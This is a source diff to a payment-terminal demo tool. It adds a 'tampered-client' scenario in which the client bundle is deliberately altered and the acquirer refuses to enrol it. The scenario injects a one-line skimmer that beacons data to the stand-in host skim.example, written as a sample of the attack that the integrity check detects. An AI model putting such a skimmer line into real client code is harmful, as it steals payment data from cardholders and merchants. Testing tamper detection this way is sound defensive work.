@@ -3,7 +3,7 @@
 // contactless card — through the app-facing API (ree/terminal), printing each event and the
 // receipt. Exit 0 only when the payment is approved, 1 for any other outcome, 2 for a usage
 // error. The temporary directory is removed at exit unless --keep.
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { homedir, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startBackend, type Backend } from '../../backend/http/server.ts';
@@ -19,6 +19,8 @@ import { InProcessTransport } from '../../ree/nfc/in-process.ts';
 import { Terminal, currencyOf, formatAmount, type PaymentResult, type PaymentEvent } from '../../ree/terminal/index.ts';
 import { failureOf } from '../../ree/terminal/request.ts';
 import { BackendError } from '../../ree/attestation/backend-link.ts';
+import { measureClientFile } from '../../ree/node/client-bundle.ts';
+import { CLIENT_FILE } from '../../common/manifest.ts';
 import type { HealthSnapshot } from '../../ree/attestation/collector.ts';
 import { trusttap } from '../../proto/gen/ts/trusttap.js';
 import { DEMO_CARDS, CardCounterFile } from '../../sim/demo-cards.ts';
@@ -26,7 +28,7 @@ import { SimWallet } from '../../sim/wallet/index.ts';
 import { TEST_WALLETS } from '../../backend/issuer-sim/wallet.ts';
 import { defineCommand, UsageError, type CommandSpec } from '../args.ts';
 
-const SCENARIOS = ['rooted', 'hooked', 'wrong-pin', 'over-limit', 'card-removed', 'lost-answer'] as const;
+const SCENARIOS = ['rooted', 'hooked', 'wrong-pin', 'over-limit', 'card-removed', 'lost-answer', 'tampered-client'] as const;
 type Scenario = (typeof SCENARIOS)[number] | 'none';
 
 /** Where the simulated cards' counters live between runs against a given back end. */
@@ -42,7 +44,7 @@ export const spec: CommandSpec = {
     { name: 'amount', value: '12.34', help: 'amount in major units, at most the currency\'s decimals, more than zero', default: "1288.00, above UnionPay's CNY 1000 no-CVM limit: PIN" },
     { name: 'currency', value: 'CODE', help: 'ISO 4217 (card payments: CNY, USD, EUR, GBP, HKD, JPY are configured)', default: 'CNY' },
     { name: 'pin', value: '1234', help: 'what the person types on the trusted keypad', default: "the card's PIN" },
-    { name: 'scenario', value: 'NAME', choices: ['none', ...SCENARIOS], help: 'rooted|hooked: the device is not trusted; wrong-pin; over-limit: above the contactless limit;\ncard-removed: the card leaves the field mid-read; lost-answer: the approval is lost and resolved' },
+    { name: 'scenario', value: 'NAME', choices: ['none', ...SCENARIOS], help: 'rooted|hooked: the device is not trusted; wrong-pin; over-limit: above the contactless limit;\ncard-removed: the card leaves the field mid-read; lost-answer: the approval is lost and resolved;\ntampered-client: the app\'s client bundle was altered (a skimmer added): the acquirer refuses it' },
     { name: 'qr', value: 'MODE', choices: ['merchant', 'consumer'], help: "a QR payment instead of the card: merchant-presented (the phone shows the acquirer's\ndynamic code, a simulated wallet pays it) or consumer-presented (the wallet shows a\none-time payment code, the phone scans it); scenarios rooted|hooked" },
     { name: 'wallet', value: 'ID', choices: TEST_WALLETS.map((w) => w.id), help: 'the simulated wallet for --qr', default: 'wallet-cny; wallet-usd for USD' },
     { name: 'isolation', value: 'MODE', choices: ['in-process', 'worker'], help: 'TEE isolation', default: 'in-process' },
@@ -97,7 +99,7 @@ export const run = defineCommand(spec, async ({ opts, flags }) => {
   const pin = scenario === 'wrong-pin' ? wrongPin(demoCard.pin) : (opts.pin ?? demoCard.pin);
   const isolation = (opts.isolation ?? 'in-process') as 'in-process' | 'worker';
   const qr = opts.qr as 'merchant' | 'consumer' | undefined;
-  if (qr && !['none', 'rooted', 'hooked'].includes(scenario)) throw new UsageError(`scenario ${scenario} is for card payments`);
+  if (qr && !['none', 'rooted', 'hooked', 'tampered-client'].includes(scenario)) throw new UsageError(`scenario ${scenario} is for card payments`);
   if (qr && opts.card) throw new UsageError('--card is for card payments, --qr pays from a --wallet');
   const walletId = opts.wallet ?? (currency.alpha === 'USD' ? 'wallet-usd' : 'wallet-cny');
   if (opts.backend !== undefined && !/^https?:\/\/[^\s/]+/.test(opts.backend)) throw new UsageError(`--backend must be an http(s) URL such as http://127.0.0.1:8443 (got '${opts.backend}')`);
@@ -132,6 +134,13 @@ export const run = defineCommand(spec, async ({ opts, flags }) => {
       url = be.url;
       adminToken = be.adminToken;
       say(`  back end on ${url} (SQLite, software HSM)`);
+      // The acquirer allows the REE client release the signed build names (issue 16 §2); a
+      // running back end given with --backend keeps its own list (trusttap client allow).
+      const manifestDir = DEFAULT_BUILD_DIR;
+      const allowed = trusttap.attest.v1.ClientRelease.decode(await admin(url, adminToken, '/v1/admin/clients', trusttap.attest.v1.AllowClientRequest.encode({
+        manifest: new Uint8Array(readFileSync(join(manifestDir, 'manifest.json'))), manifestSignature: readFileSync(join(manifestDir, 'manifest.sig'), 'utf8'), reason: 'the demo\'s release',
+      }).finish()));
+      say(`  allowed client ${allowed.name} ${allowed.version} (sha256 ${Buffer.from(allowed.sha256).toString('hex').slice(0, 16)}…, from the signed manifest)`);
     }
 
     // 2. The phone: a provisioned TEE (simulated OEM key) running the signed TAs, a scripted
@@ -155,7 +164,16 @@ export const run = defineCommand(spec, async ({ opts, flags }) => {
     const card: SimulatedCard = demoCard.make({ ...(scenario === 'card-removed' ? { tearAtIns: 0xb2 } : {}), ...(atc !== undefined ? { atc } : {}) });
     const nfc = new InProcessTransport(card);
     const config = loadSignedConfig(signedTestTerminalConfig(), testConfigSigningKey().publicKey);
-    terminal = await Terminal.open({ tee: new InProcessTeeDriver(runtime), backendUrl: url, health: () => health, kernelConfig: config, nfc });
+    // The app's client measures the bundle it runs (ree/node measureClientFile: SHA-256 of the
+    // file's bytes under the signed manifest's release). tampered-client: a skimmer was appended.
+    let bundle = join(DEFAULT_BUILD_DIR, CLIENT_FILE);
+    if (scenario === 'tampered-client') {
+      bundle = join(work, 'trusttap-client.js');
+      writeFileSync(bundle, Buffer.concat([readFileSync(join(DEFAULT_BUILD_DIR, CLIENT_FILE)), Buffer.from(';/* injected */globalThis.__skim=(d)=>navigator.sendBeacon("https://skim.example/",d);\n')]));
+    }
+    const client = measureClientFile(join(DEFAULT_BUILD_DIR, 'manifest.json'), bundle);
+    say(`  the app's client: ${client.name} ${client.version}, bundle sha256 ${Buffer.from(client.sha256).toString('hex').slice(0, 16)}…${scenario === 'tampered-client' ? ' (ALTERED: code injected into the bundle)' : ''}`);
+    terminal = await Terminal.open({ tee: new InProcessTeeDriver(runtime), backendUrl: url, health: () => health, kernelConfig: config, nfc, client });
 
     try {
       const cap = await terminal.checkCapability();
@@ -163,7 +181,18 @@ export const run = defineCommand(spec, async ({ opts, flags }) => {
 
       const t = trusttap.attest.v1.CreateTerminalResponse.decode(await admin(url, adminToken, '/v1/admin/terminals',
         trusttap.attest.v1.CreateTerminalRequest.encode({ merchantId: 'M-DEMO-0001', terminalId: `T${Date.now().toString(36).slice(-7).toUpperCase()}` }).finish()));
-      const enrolled = await terminal.enroll(t.activationCode);
+      const enrolled = await terminal.enroll(t.activationCode).catch(async (e: unknown) => {
+        if (e instanceof BackendError && e.code === trusttap.attest.v1.ErrorCode.ERROR_CLIENT_REFUSED) {
+          say(`2. enrolment refused: the acquirer refused the client (${e.clientRefusalName})`);
+          // What the acquirer's monitoring kept: the rule in the device's history (and a THREAT_ALERT).
+          const h = await fetch(`${url}/v1/admin/devices/${t.deviceId}/history`, { headers: { authorization: `Bearer ${adminToken}` } });
+          if (h.ok) {
+            const rule = trusttap.attest.v1.HistoryResponse.decode(new Uint8Array(await h.arrayBuffer())).entries.find((x) => x.kind === 'rule');
+            if (rule) say(`   acquirer monitoring (device ${t.deviceId}): THREAT_ALERT — ${rule.detail}`);
+          }
+        }
+        throw e;
+      });
       say(`2. enrolled as ${enrolled.deviceId} (merchant ${enrolled.merchantId}, terminal ${enrolled.terminalId}); DUKPT key injected, KCV ${enrolled.keyCheckValues[0]}`);
 
       if (scenario === 'rooted') health.rooted = true;
